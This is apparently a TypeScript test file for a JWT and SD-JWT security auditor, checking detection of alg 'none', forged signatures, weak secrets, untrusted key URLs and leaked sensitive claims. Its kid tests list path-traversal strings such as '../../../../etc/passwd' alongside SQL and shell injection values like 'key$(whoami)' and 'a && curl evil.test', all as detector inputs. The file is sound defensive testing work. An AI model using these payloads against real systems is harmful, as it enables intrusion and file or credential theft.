import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { SignJWT, base64url, importJWK } from 'jose';
import { AUDIT_CHECKS } from '../../src/core/auditChecks';
import { auditToken } from '../../src/core/auditToken';
import type { Finding } from '../../src/core/types';
import { COMPLEX_STRUCTURED, ISSUED, PRESENTATION } from '../fixtures/rfc9901';
import { RFC7515, keysFor, makeToken } from './helpers';
import { jwe } from './scan-helpers';

const now = new Date('2026-03-01T00:00:00Z');
const nowSeconds = now.getTime() / 1000;
const HOUR = 3600;
/** Claims of an ordinary token: issued a minute ago, valid for an hour. */
const fresh = { iss: 'https://issuer.example.com', sub: 'user-1', iat: nowSeconds - 60, exp: nowSeconds + HOUR };
const audit = (token: string, options = {}) => auditToken(token, { now, ...options });
const ids = async (token: string, options = {}) => (await audit(token, options)).map((f) => f.id);
/** The findings with `id`, asserting there is at least one. */
async function found(token: string, id: string, options = {}): Promise<Finding[]> {
  const findings = (await audit(token, options)).filter((f) => f.id === id);
  assert.ok(findings.length > 0, `expected ${id} for ${token}`);
  return findings;
}
async function notFound(token: string, id: string, options = {}): Promise<void> {
  const findings = (await audit(token, options)).filter((f) => f.id === id);
  assert.deepEqual(findings, [], `unexpected ${id} for ${token}`);
}
const withHeader = (header: object, claims: object = fresh) => makeToken({ alg: 'RS256', ...header }, claims);
const withClaims = (claims: object) => makeToken({ alg: 'RS256', typ: 'JWT' }, { ...fresh, ...claims });
const hs = (claims: object, secret: string, alg = 'HS256') =>
  new SignJWT({ ...claims }).setProtectedHeader({ alg, typ: 'JWT' }).sign(new TextEncoder().encode(secret));
const STRONG = 'q9XvB2mN7rT4wZ8kL1pS6dF3hJ0gY5cE';
/** kid styles seen in real key sets: UUIDs, dated names, dashes and underscores, thumbprints, URLs. */
const NORMAL_KIDS = [
  '3f2b7c4e-9a1d-4e8b-b6c5-2d7f0a9e1b3c',
  '2024-05-key',
  'key_1',
  'rsa-prod-01',
  'NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg',
  'https://keys.example.com/keys#1',
  'https://keys.example.com/jwks?key=1&v=2',
  "o'brien-2024",
  'sig.2024.v1',
];

const all = AUDIT_CHECKS.map((c) => c.id);

describe('auditToken', () => {
  describe('clean tokens', () => {
    it('raises nothing above info for mainstream tokens', async () => {
      const rsa = await importJWK((await keysFor('RS256')).privateJwk, 'RS256');
      const ec = await importJWK((await keysFor('ES256')).privateJwk, 'ES256');
      const google = {
        iss: 'https://accounts.google.com',
        azp: '1234987819200.apps.googleusercontent.com',
        aud: '1234987819200.apps.googleusercontent.com',
        sub: '10769150350006150715113082367',
        at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q',
        hd: 'example.com',
        email: 'jsmith@example.com',
        email_verified: true,
        name: 'John Smith',
        given_name: 'John',
        family_name: 'Smith',
        picture: 'https://lh3.googleusercontent.com/a/ACg8ocK=s96-c',
        locale: 'en',
        nonce: '0394852-3190485-2490358',
        iat: nowSeconds - 30,
        exp: nowSeconds + HOUR,
      };
      const azure = {
        aud: '6cb04018-a3f5-46a7-b995-940c78f5aef3',
        iss: 'https://login.microsoftonline.com/b9419818-09af-49c2-b0c3-653adc1f376e/v2.0',
        iat: nowSeconds - 120,
        nbf: nowSeconds - 120,
        exp: nowSeconds + HOUR,
        name: 'Abe Lincoln',
        oid: '00000000-0000-0000-66f3-3332eca7ea81',
        preferred_username: 'abeli@microsoft.com',
        rh: '0.AAAA.I6nA5ILxmEi2e3V4Rr1S9uAQAAAAAAAAwAAAAAAAAAB.',
        sub: 'HKZpfaHyWadeOouYlitjrI-KffTm222X5rrV3xDqfKQ',
        tid: 'b9419818-09af-49c2-b0c3-653adc1f376e',
        uti: 'fqiBqXLPj0eQa82S-IYFAA',
        ver: '2.0',
      };
      const auth0 = {
        iss: 'https://dev-abc123.us.auth0.com/',
        sub: 'auth0|64b7f3c2a1e4d5f6a7b8c9d0',
        aud: 'xyzCLIENTID123',
        nickname: 'jane',
        name: 'jane@example.com',
        picture: 'https://s.gravatar.com/avatar/abc.png',
        updated_at: '2026-02-28T12:34:56.789Z',
        email: 'jane@example.com',
        email_verified: false,
        sid: 'Kx7m2QpL9vN3bR8tY1wZ4cF6',
        nonce: 'bm9uY2UtMTIz',
        iat: nowSeconds,
        exp: nowSeconds + 10 * HOUR,
      };
      const app = {
        ...fresh,
        jti: '7f3c2a1e-4d5f-4a7b-8c9d-0e1f2a3b4c5d',
        scope: 'openid profile email',
        roles: ['admin', 'editor'],
        description: 'Allows password reset and account recovery',
        pwd_changed_at: 1700000000,
        password_changed_at: '2025-01-02T03:04:05Z',
        phone_number: '+1 555 010 9999',
        order_ms: 1772323200000,
        org: { id: 'org_2bXk9', plan: 'pro', seats: 25 },
      };
      const kids = ['1e9gdk7', ...NORMAL_KIDS];
      const tokens = [
        ...(await Promise.all(
          kids.map((kid) => new SignJWT(fresh).setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid }).sign(rsa)),
        )),
        await new SignJWT(google)
          .setProtectedHeader({ alg: 'RS256', kid: 'c7e04465649ffa606557650c7e65f0a87ae00fe8', typ: 'JWT' })
          .sign(rsa),
        await new SignJWT(azure)
          .setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: 'nOo3ZDrODXEK1jKWhXslHR_KXEg' })
          .sign(rsa),
        await new SignJWT(auth0).setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: 'QzBGM0Q3RkE5' }).sign(rsa),
        await new SignJWT(app).setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid: 'ec-2026-01' }).sign(ec),
        await hs(app, STRONG),
        await hs(fresh, `${STRONG}${STRONG}`, 'HS512'),
      ];
      for (const token of tokens) {
        const serious = (await audit(token, { secret: STRONG })).filter((f) => f.severity !== 'info');
        assert.deepEqual(serious, [], token);
      }
    });

    it('lists every check with a title, ids unique, findings in its order', async () => {
      const token = makeToken({ alg: 'RS256', kid: '../k', jwk: {}, crit: [] }, { password: 'p', iat: nowSeconds });
      const findings = await audit(`${token}${'A'.repeat(9000)}`);
      const rank = (f: Finding) => ['error', 'warning', 'info'].indexOf(f.severity) * 1000 + all.indexOf(f.id);
      assert.ok(findings.length >= 6);
      assert.deepEqual(
        findings,
        [...findings].sort((a, b) => rank(a) - rank(b)),
      );
      assert.ok(findings.every((f) => all.includes(f.id)));
      assert.equal(new Set(all).size, all.length);
      for (const check of AUDIT_CHECKS) assert.ok(check.title.length > 3, check.id);
    });
  });

  describe('algorithm and signature', () => {
    it('alg-none: in any letter case', async () => {
      for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
        const [finding] = await found(makeToken({ alg }, fresh, ''), 'alg-none');
        assert.equal(finding!.severity, 'error');
        assert.match(finding!.message, new RegExp(`alg "${alg}"`));
      }
      await notFound(RFC7515.A2.token, 'alg-none');
    });

    it('alg-unknown: whitespace, case and made-up variants, and JWE algorithms in a JWS', async () => {
      for (const alg of ['HS256 ', 'hs256', 'RS256x', 'SHA256', 'RSA-OAEP']) {
        const [finding] = await found(withHeader({ alg }), 'alg-unknown');
        assert.equal(finding!.severity, 'error');
      }
      assert.match((await found(withHeader({ alg: 'hs256' }), 'alg-unknown'))[0]!.message, /close to "HS256"/);
      await found(jwe({ alg: 'dir', enc: 'A256GCMX' }), 'alg-unknown');
      await found(jwe({ alg: 'HS256', enc: 'A256GCM' }), 'alg-unknown');
      for (const alg of ['ES256K', 'EdDSA', 'Ed25519', 'PS512']) await notFound(withHeader({ alg }), 'alg-unknown');
      await notFound(jwe({ alg: 'ECDH-ES+A256KW', enc: 'A256CBC-HS512' }), 'alg-unknown');
    });

    it('signature-empty: alg is not none but there is no signature', async () => {
      const [finding] = await found(makeToken({ alg: 'HS256' }, fresh, ''), 'signature-empty');
      assert.equal(finding!.part, 'signature');
      await notFound(makeToken({ alg: 'none' }, fresh, ''), 'signature-empty');
    });

    it('signature-psychic: ECDSA r or s zero, all zeros, or the wrong length', async () => {
      const signature = (bytes: Uint8Array) => base64url.encode(bytes);
      const zeros = makeToken({ alg: 'ES256' }, fresh, signature(new Uint8Array(64)));
      assert.match((await found(zeros, 'signature-psychic'))[0]!.message, /all zeros.*CVE-2022-21449/);
      const real = base64url.decode(RFC7515.A3.token.split('.')[2]!);
      const zeroR = new Uint8Array(real);
      zeroR.fill(0, 0, 32);
      const zeroS = new Uint8Array(real);
      zeroS.fill(0, 32);
      const highS = new Uint8Array(real);
      highS.fill(0xff, 32);
      for (const bytes of [zeroR, zeroS, highS]) {
        const [finding] = await found(makeToken({ alg: 'ES256' }, fresh, signature(bytes)), 'signature-psychic');
        assert.equal(finding!.severity, 'error');
      }
      const der = makeToken({ alg: 'ES384' }, fresh, signature(new Uint8Array(70).fill(7)));
      assert.equal((await found(der, 'signature-psychic'))[0]!.severity, 'warning');
      await notFound(RFC7515.A3.token, 'signature-psychic');
      await notFound(RFC7515.A4.token, 'signature-psychic');
    });
  });

  describe('keys the header brings', () => {
    it('header-jwk: an embedded jwk is an error, x5c a warning, a DPoP proof only a note', async () => {
      const jwk = RFC7515.A3.jwk;
      assert.equal((await found(withHeader({ jwk }), 'header-jwk'))[0]!.severity, 'error');
      assert.match((await found(withHeader({ jwk }), 'header-jwk'))[0]!.message, /CVE-2018-0114/);
      assert.equal((await found(withHeader({ x5c: ['MIIB'] }), 'header-jwk'))[0]!.severity, 'warning');
      assert.equal((await found(withHeader({ typ: 'dpop+jwt', jwk }), 'header-jwk'))[0]!.severity, 'info');
    });

    it('header-key-url: an error off the issuer host or without https, a warning on it', async () => {
      const severity = async (header: object, claims: object = fresh) =>
        (await found(withHeader(header, claims), 'header-key-url')).map((f) => f.severity);
      assert.deepEqual(await severity({ jku: 'https://attacker.example.net/jwks.json' }), ['error']);
      assert.deepEqual(await severity({ jku: 'https://issuer.example.com@attacker.example.net/k' }), ['error']);
      assert.deepEqual(await severity({ x5u: 'http://issuer.example.com/cert.pem' }), ['error']);
      assert.deepEqual(await severity({ jku: 'not a url' }), ['error']);
      assert.deepEqual(await severity({ jku: 'https://issuer.example.com/jwks.json' }, { sub: 'no-iss', exp: 1 }), [
        'error',
      ]);
      assert.deepEqual(await severity({ jku: 'https://ISSUER.example.com/.well-known/jwks.json' }), ['warning']);
      assert.deepEqual(await severity({ jku: 'https://issuer.example.com/k' }, { iss: 'joe', exp: 1 }), ['error']);
      // Errors come first.
      assert.deepEqual(await severity({ jku: 'https://issuer.example.com/a', x5u: 'https://evil.test/c' }), [
        'error',
        'warning',
      ]);
    });
  });

  describe('kid', () => {
    it('kid-path: traversal, absolute paths, file: URLs, NUL bytes, /dev/null', async () => {
      for (const kid of [
        '../../../../etc/passwd',
        '..\\..\\keys\\k.pem',
        'keys/../../secret',
        '/etc/passwd',
        '/dev/null',
        'C:\\Windows\\win.ini',
        'file:///etc/passwd',
        'key\u0000.pem',
        '..%2F..%2Fetc%2Fpasswd',
        '%252e%252e%252fkeys',
        '....//....//etc/passwd',
        'https://keys.example.com/../../etc/passwd',
      ]) {
        assert.equal((await found(withHeader({ kid }), 'kid-path'))[0]!.severity, 'error', kid);
      }
    });

    it('kid-injection: SQL and shell syntax', async () => {
      for (const kid of [
        "' OR 1=1 --",
        "x' or 'a'='a",
        '1 UNION SELECT "secret"',
        "key'; DROP TABLE keys; --",
        'key|cat /etc/passwd',
        'key`id`',
        'key$(whoami)',
        'a && curl evil.test',
        "admin'--",
        'k" AND SLEEP(5)',
      ]) {
        await found(withHeader({ kid }), 'kid-injection');
      }
    });

    it('leaves normal kids alone', async () => {
      for (const kid of NORMAL_KIDS) {
        const found = (await ids(withHeader({ kid }))).filter((id) => id.startsWith('kid-'));
        assert.deepEqual(found, [], kid);
      }
    });

    it('kid-type: a kid that is not a string', async () => {
      for (const kid of [1, null, ['a'], { $ne: '' }]) await found(withHeader({ kid }), 'kid-type');
      await notFound(withHeader({ kid: '1' }), 'kid-type');
    });
  });

  describe('crit and b64', () => {
    it('crit-unknown: unknown extensions or malformed crit', async () => {
      await found(withHeader({ crit: ['exp'], exp: 1 }), 'crit-unknown');
      await found(withHeader({ crit: [] }), 'crit-unknown');
      await found(withHeader({ crit: 'b64', b64: false }), 'crit-unknown');
      await found(withHeader({ crit: [1] }), 'crit-unknown');
      await found(withHeader({ crit: ['b64'] }), 'crit-unknown');
      await found(withHeader({ crit: ['kid'], kid: 'a' }), 'crit-unknown');
      await notFound(withHeader({ crit: ['b64'], b64: false }), 'crit-unknown');
    });

    it('b64-false: an unencoded payload', async () => {
      const token = `${base64url.encode(JSON.stringify({ alg: 'HS256', b64: false, crit: ['b64'] }))}.$.c2ln`;
      assert.match((await found(token, 'b64-false'))[0]!.message, /RFC 7797/);
      assert.match((await found(withHeader({ b64: false }), 'b64-false'))[0]!.message, /crit does not list b64/);
      await notFound(withHeader({ b64: true }), 'b64-false');
    });
  });

  describe('times', () => {
    it('exp-missing, expired, long-lived', async () => {
      const { iat, iss, sub } = fresh;
      assert.equal((await found(withClaims({ exp: undefined }), 'exp-missing'))[0]!.severity, 'warning');
      await notFound(withClaims({}), 'exp-missing');
      assert.match((await found(withClaims({ exp: '2026-12-31' }), 'exp-missing'))[0]!.message, /not a NumericDate/);
      await found(withClaims({ exp: 1e30 }), 'exp-missing');
      const [expired] = await found(withClaims({ exp: nowSeconds - 2 * 86400 }), 'expired');
      assert.equal(expired!.message, 'This token expired 2 days ago (2026-02-27 00:00:00 UTC)');
      assert.equal(expired!.severity, 'info');
      await found(makeToken({ alg: 'RS256' }, { iss, sub, iat, exp: iat + 31 * 86400 }), 'long-lived');
      await found(makeToken({ alg: 'RS256' }, { iss, sub, exp: nowSeconds + 90 * 86400 }), 'long-lived');
      await notFound(makeToken({ alg: 'RS256' }, { iss, sub, iat, exp: iat + 29 * 86400 }), 'long-lived');
    });

    it('exp-before-iat and nbf-after-exp', async () => {
      await found(withClaims({ iat: nowSeconds - 60, exp: nowSeconds - 120 }), 'exp-before-iat');
      await found(withClaims({ nbf: nowSeconds + 2 * HOUR + 600, exp: nowSeconds + HOUR }), 'nbf-after-exp');
    });

    it('clock-timezone: iat or nbf ahead by whole hours, with the PyJWT fix', async () => {
      for (const hours of [1, 5, 8, 14]) {
        for (const drift of [-110, 0, 90]) {
          const iat = nowSeconds + hours * HOUR + drift;
          const [finding] = await found(withClaims({ iat, exp: iat + HOUR }), 'clock-timezone');
          assert.match(finding!.message, new RegExp(`iat is ${hours} hours in the future`));
          assert.match(finding!.message, /datetime\.now\(timezone\.utc\)/);
          assert.equal(finding!.severity, 'warning');
        }
      }
      await found(withClaims({ nbf: nowSeconds + 8 * HOUR, exp: nowSeconds + 9 * HOUR }), 'clock-timezone');
      await notFound(withClaims({ iat: nowSeconds + 8 * HOUR + 600 }), 'clock-timezone');
      await notFound(withClaims({ iat: nowSeconds + 20 * HOUR }), 'clock-timezone');
      await notFound(withClaims({ iat: nowSeconds - 8 * HOUR }), 'clock-timezone');
      await notFound(withClaims({ nbf: nowSeconds + 1800 }), 'clock-timezone');
    });

    it('iat-future: iat ahead by other amounts, no double report', async () => {
      await found(withClaims({ iat: nowSeconds + 1800, exp: nowSeconds + 2 * HOUR }), 'iat-future');
      await notFound(withClaims({ iat: nowSeconds + 30 }), 'iat-future');
      await notFound(withClaims({ iat: nowSeconds + 3 * HOUR, exp: nowSeconds + 4 * HOUR }), 'iat-future');
    });
  });

  describe('weak-secret', () => {
    it('names the well-known secret, with each HMAC algorithm', async () => {
      for (const alg of ['HS256', 'HS384', 'HS512']) {
        const [finding] = await found(await hs(fresh, 'secret', alg), 'weak-secret');
        assert.equal(finding!.severity, 'error');
        assert.match(finding!.message, /"secret"/);
      }
      await notFound(await hs(fresh, STRONG), 'weak-secret');
    });

    it('finds the blank secret', async () => {
      // An HMAC key of one zero byte signs as the empty key does (RFC 2104 pads keys with zeros).
      const token = await new SignJWT(fresh).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(1));
      assert.match((await found(token, 'weak-secret'))[0]!.message, /empty secret/);
    });

    it('warns about a given secret that verifies but is shorter than the hash', async () => {
      const token = await hs(fresh, 'short-but-unlisted');
      const [finding] = await found(token, 'weak-secret', { secret: 'short-but-unlisted' });
      assert.equal(finding!.severity, 'warning');
      assert.match(finding!.message, /18 bytes; HS256 needs at least 32/);
      await notFound(token, 'weak-secret', { secret: 'another-short-one' });
      await notFound(token, 'weak-secret');
    });
  });

  describe('sensitive-data', () => {
    const sensitive = async (claims: object) =>
      (await audit(withClaims(claims))).filter((f) => f.id === 'sensitive-data').map((f) => f.message);

    it('finds passwords by claim name, at any depth, without showing them', async () => {
      for (const [claims, path] of [
        [{ password: 'hunter2' }, 'password'],
        [{ user: { passwd: 'hunter2' } }, 'user.passwd'],
        [{ pwd: 'hunter2' }, 'pwd'],
        [{ client_secret: 'abc123' }, 'client_secret'],
        [{ apiKey: 'k-123' }, 'apiKey'],
        [{ creds: [{ private_key: 'xyz' }] }, 'creds[0].private_key'],
        [{ db_password: 'p4ss' }, 'db_password'],
        [{ password: 'x' }, 'password'],
      ] as const) {
        const [message] = await sensitive(claims);
        assert.ok(message?.includes(`"${path}"`), `${JSON.stringify(claims)}: ${message}`);
        assert.ok(!message.includes('hunter2'));
      }
    });

    it('finds cards, private keys, cloud keys and national IDs by shape, masked', async () => {
      const cases: [unknown, RegExp, string][] = [
        ['4111 1111 1111 1111', /payment card number \(…1111\)/, '4111 1111 1111 1111'],
        ['5500-0000-0000-0004', /payment card/, '5500-0000-0000-0004'],
        [378282246310005, /payment card/, '378282246310005'],
        ['-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', /a private key\./, 'MIIE'],
        ['-----BEGIN PRIVATE KEY-----\nMIIE', /a private key\./, 'MIIE'],
        ['AKIAIOSFODNN7EXAMPLE', /AWS access key \(AKIA…LE\)/, 'AKIAIOSFODNN7EXAMPLE'],
        ['ASIAY34FZKBOKMUTVV7A', /AWS access key/, 'ASIAY34FZKBOKMUTVV7A'],
        [`AIza${'S'.repeat(35)}`, /Google API key/, 'S'.repeat(35)],
        [`ghp_${'a1'.repeat(18)}`, /GitHub token/, 'a1'.repeat(18)],
        [`github_pat_${'B'.repeat(30)}`, /GitHub token/, 'B'.repeat(30)],
        ['xoxb-123456789012-abcdefghij', /Slack token/, '123456789012'],
        [`sk_live_${'4eC39HqLyjWDarjtT1zdp7dc'}`, /Stripe/, '4eC39HqLyjWDarjtT1zdp7dc'],
        ['11010519491231002X', /China resident ID number \(1101…2X\)/, '11010519491231002X'],
        ['my ssn is 123-45-6789', /Social Security number/, '123-45-6789'],
      ];
      for (const [value, pattern, secret] of cases) {
        const messages = await sensitive({ profile: { data: value } });
        assert.equal(messages.length, 1, `${value}: ${messages.join(' | ')}`);
        assert.match(messages[0]!, pattern);
        assert.match(messages[0]!, /"profile\.data"/);
        assert.ok(!messages[0]!.includes(secret), messages[0]);
      }
    });

    it('searches a payload that is text, not claims', async () => {
      const token = makeToken({ alg: 'RS256' }, 'card 4111111111111111');
      assert.match((await found(token, 'sensitive-data'))[0]!.message, /^The payload holds/);
    });

    it('leaves ordinary claims alone', async () => {
      const quiet = [
        { email: 'jane@example.com', email_verified: true, name: 'Jane Doe' },
        { description: 'Sends a password reset link', note: 'secret santa 2024' },
        { pwd_changed_at: 1700000000, password_set: true, password_expires_in: 3600 },
        { password: '', secret: '********', client_secret: '[REDACTED]', api_key: '••••' },
        { phone: '4111 1111 1111 1111', mobile: '+86 138 0013 8000', fax: '555-12-3456', tel: '4111111111111111' },
        { n: '4111 1111 1111 1112', t: 1772323200000, us: 1772323200000000 },
        {
          sub: '4111111111111111',
          user_id: 4111111111111111,
          groupIds: ['4111111111111111'],
          aud: ['4111111111111111'],
        },
        { id: '3f2b7c4e-9a1d-4e8b-b6c5-2d7f0a9e1b3c', order: '5716-446655440000-x' },
        { ids: ['000-12-3456', '666-12-3456', '923-12-3456', '123-00-4567', '123-45-0000'] },
        { cn: ['110105194912310021', '010105194912310026', '110105194913310020', '110105290012310021'] },
        { text: 'ghp_short', aws: 'AKIA-not-a-key', pem: '-----BEGIN PUBLIC KEY-----' },
      ];
      for (const claims of quiet) assert.deepEqual(await sensitive(claims), [], JSON.stringify(claims));
    });
  });

  describe('encrypted tokens', () => {
    it('jwe-rsa1_5', async () => {
      assert.match(
        (await found(jwe({ alg: 'RSA1_5', enc: 'A128CBC-HS256' }), 'jwe-rsa1_5'))[0]!.message,
        /Bleichenbacher/,
      );
      await notFound(jwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM' }), 'jwe-rsa1_5');
    });

    it('jwe-zip', async () => {
      assert.equal((await found(jwe({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' }), 'jwe-zip'))[0]!.severity, 'warning');
      await notFound(jwe(), 'jwe-zip');
    });

    it('jwe-p2c: too few or too many PBES2 iterations', async () => {
      const pbes2 = (p2c: number) => jwe({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2s: 'c2FsdA', p2c });
      await found(pbes2(10), 'jwe-p2c');
      await found(pbes2(2 ** 31), 'jwe-p2c');
      await notFound(pbes2(310000), 'jwe-p2c');
    });

    it('raises nothing above info for an ordinary JWE', async () => {
      assert.deepEqual(
        (await audit(jwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: 'enc-2026' }))).filter(
          (f) => f.severity !== 'info',
        ),
        [],
      );
    });
  });

  describe('SD-JWT', () => {
    const disclosure = (...parts: unknown[]) => base64url.encode(JSON.stringify(parts));
    const digest = (text: string) => createHash('sha256').update(text).digest('base64url');
    const GIVEN = disclosure('salt-given-name', 'given_name', 'Ada');
    const sdJwt = (claims: object, disclosures: string[], keyBinding = '') =>
      `${withClaims(claims)}~${disclosures.map((d) => `${d}~`).join('')}${keyBinding}`;
    const sdIds = async (token: string) => (await ids(token)).filter((id) => id.startsWith('sd-'));

    it('finds nothing in the RFC 9901 presentation, and notes the issued SD-JWT has no key binding', async () => {
      assert.deepEqual(await sdIds(PRESENTATION), []);
      assert.deepEqual(await sdIds(COMPLEX_STRUCTURED), []);
      const [note] = await found(ISSUED, 'sd-kb-missing');
      assert.equal(note!.severity, 'info');
      assert.deepEqual(await sdIds(makeToken({ alg: 'RS256' }, { ...fresh, cnf: { jwk: {} } })), []);
    });

    it('sd-disclosures: a disclosure the issuer did not sign, a reserved name, a digest twice', async () => {
      const admin = disclosure('salt-admin', 'admin', true);
      const [unsigned] = await found(sdJwt({ _sd: [digest(GIVEN)] }, [GIVEN, admin]), 'sd-disclosures');
      assert.equal(unsigned!.severity, 'error');
      assert.match(unsigned!.message, /Disclosure 2 \("admin"\) is not applied: The issuer signed no digest of it/);
      const reserved = disclosure('salt', '_sd', []);
      await found(sdJwt({ _sd: [digest(reserved)] }, [reserved]), 'sd-disclosures');
      const [twice] = await found(
        sdJwt({ _sd: [digest(GIVEN)], a: { _sd: [digest(GIVEN)] } }, [GIVEN]),
        'sd-disclosures',
      );
      assert.match(twice!.message, /appears more than once/);
      assert.deepEqual(await sdIds(sdJwt({ _sd: [digest(GIVEN), digest('decoy')] }, [GIVEN])), []);
    });

    it('sd-alg: a weak hash is an error, an unknown one a warning, a strong one this tool lacks a note', async () => {
      assert.equal((await found(sdJwt({ _sd_alg: 'md5' }, [GIVEN]), 'sd-alg'))[0]!.severity, 'error');
      assert.equal((await found(sdJwt({ _sd_alg: 'sha-256-32' }, [GIVEN]), 'sd-alg'))[0]!.severity, 'error');
      assert.equal((await found(sdJwt({ _sd_alg: 'whirlpool' }, [GIVEN]), 'sd-alg'))[0]!.severity, 'warning');
      assert.equal((await found(sdJwt({ _sd_alg: 'sha3-256' }, [GIVEN]), 'sd-alg'))[0]!.severity, 'info');
      // Disclosures that cannot be checked are not called forged.
      await notFound(sdJwt({ _sd_alg: 'sha3-256' }, [GIVEN]), 'sd-disclosures');
      await notFound(sdJwt({ _sd_alg: 'sha-512', _sd: [] }, []), 'sd-alg');
    });

    it('sd-key-binding: a wrong sd_hash is an error, a key-binding JWT against RFC 9901 a warning', async () => {
      const [, , , , us] = PRESENTATION.split('~');
      const [wrong] = await found(PRESENTATION.replace(`~${us}~`, '~'), 'sd-key-binding');
      assert.equal(wrong!.severity, 'error');
      const part = sdJwt({ _sd: [digest(GIVEN)], cnf: { jwk: {} } }, [GIVEN]);
      const kb = makeToken(
        { alg: 'ES256', typ: 'JWT' },
        { iat: nowSeconds, aud: 'v', nonce: 'n', sd_hash: digest(part) },
      );
      const [typ] = await found(`${part}${kb}`, 'sd-key-binding');
      assert.equal(typ!.severity, 'warning');
      assert.match(typ!.message, /kb\+jwt/);
    });
  });

  describe('broken input', () => {
    it('says what it can and never throws on garbage', async () => {
      for (const garbage of ['', '   ', 'hello', 'a.b', 'a.b.c.d', '%%%.%%%.%%%', '.....', 'eyJ.eyJ.eyJ', '\u0000']) {
        const findings = await audit(garbage);
        assert.ok(
          findings.every((f) => f.severity === 'info'),
          garbage,
        );
      }
      assert.deepEqual(await ids(`${base64url.encode('{"alg":"none"}')}.%%%.`), ['alg-none', 'token-malformed']);
      const brokenPayload = `${base64url.encode(JSON.stringify({ alg: 'HS256', kid: '../../dev/null' }))}.$$$.c2ln`;
      assert.deepEqual(await ids(brokenPayload), ['kid-path', 'token-malformed']);
      assert.deepEqual(await ids(`Bearer ${makeToken({ alg: 'none' }, fresh, '')}`), ['alg-none']);
      // An SD-JWT is audited as its issuer JWT, and its disclosure, which the issuer signed no digest of, as well.
      assert.deepEqual(await ids(`${makeToken({ alg: 'none' }, fresh, '')}~WyJzYWx0IiwiYSIsMV0~`), [
        'alg-none',
        'sd-disclosures',
      ]);
    });

    it('throws only for input that is not a string', async () => {
      await assert.rejects(() => auditToken(42 as unknown as string), { code: 'not-a-string' });
    });

    it('token-huge: tokens over 8 KB', async () => {
      await found(withClaims({ blob: 'x'.repeat(9000) }), 'token-huge');
      await found('x'.repeat(2 * 1024 * 1024), 'token-huge');
    });
  });
});
